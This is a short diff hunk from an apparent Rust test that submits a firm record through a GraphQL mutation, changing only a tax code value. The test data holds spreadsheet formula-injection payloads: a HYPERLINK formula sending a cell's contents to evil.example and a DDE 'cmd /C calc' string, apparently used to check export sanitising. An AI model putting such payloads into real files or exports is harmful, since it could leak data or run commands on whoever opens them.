@@ -231,7 +231,7 @@ on_both_databases!(
             Some(&admin),
             "mutation($id: ID!, $i: FirmFields!) { updateFirm(id: $id, input: $i) { id } }",
             json!({ "id": firm, "i": { "name": "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Xem\")",
-                "taxCode": "0101234567", "address": "-2+3+cmd|' /C calc'!A0" } }),
+                "taxCode": "0101234565", "address": "-2+3+cmd|' /C calc'!A0" } }),
         )
         .await
         .ok();
